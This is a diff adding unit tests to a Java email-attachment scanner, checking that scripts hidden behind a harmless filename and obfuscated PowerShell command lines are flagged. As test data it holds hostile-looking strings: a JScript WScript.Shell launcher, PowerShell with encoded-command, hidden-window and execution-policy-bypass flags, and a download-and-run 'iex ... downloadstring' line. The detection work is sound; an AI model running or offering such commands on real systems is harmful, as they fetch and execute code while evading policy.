@@ -38,6 +38,20 @@ class NameAndTextTest {
     }
 
     @Test
+    void anExecutableNameInEitherNameParameterIsJudged() {
+        // Clients differ in which name they save a part under: filename= (Content-Disposition) or name=
+        // (Content-Type). A script behind a harmless filename= is still a script to the client that uses name=.
+        byte[] js = utf8("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');");
+        List<Finding> f = scan(message("", "", attachment("readme.txt", "readme.js", "application/octet-stream", js)));
+        assertThat(only(f, "executable").detail()).contains(".js");
+        List<Finding> iso = scan(message("", "", attachment("photo.jpg", "photo.iso", "application/octet-stream",
+                utf8("x"))));
+        assertThat(rules(iso)).contains("disk-image");
+        assertThat(rules(scan(message("", "", attachment("a.txt", "b.txt", "text/plain", utf8("x"))))))
+                .doesNotContain("executable", "disk-image");
+    }
+
+    @Test
     void aDeclaredTypeThatDisagreesWithTheContentIsFound() {
         byte[] zip = zip("a.txt", utf8("x"));
         assertThat(only(scanAttachment("photo.jpg", "image/jpeg", zip), "type-mismatch").detail())
@@ -78,6 +92,19 @@ class NameAndTextTest {
         assertThat(rules(scanAttachment("setup.txt", "text/plain",
                 utf8("cmd.exe /c powershell iex(new-object net.webclient).downloadstring('http://x')"))))
                 .contains("command-line");
+    }
+
+    @Test
+    void powerShellParameterPrefixesAndDashLookAlikesAreFound() {
+        // powershell.exe takes any prefix of a parameter name (-en, -enco, -encodedc, -windowst, -ep) and an en
+        // dash, em dash or horizontal bar for "-": the obfuscations Invoke-Obfuscation writes.
+        for (String cmd : new String[] {"powershell -en SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+            "powershell -encodedc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell \u2013enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+            "powershell.exe -nop -windowst hidden -c calc", "powershell \u2014w hidden -c calc",
+            "powershell -ep bypass -f a.ps1", "powershell -ex bypass -f a.ps1"}) {
+            assertThat(rules(scan(message("run: " + cmd, "")))).as(cmd).contains("command-line");
+        }
+        assertThat(rules(scan(message("powershell -e", "")))).doesNotContain("command-line");
     }
 
     @Test
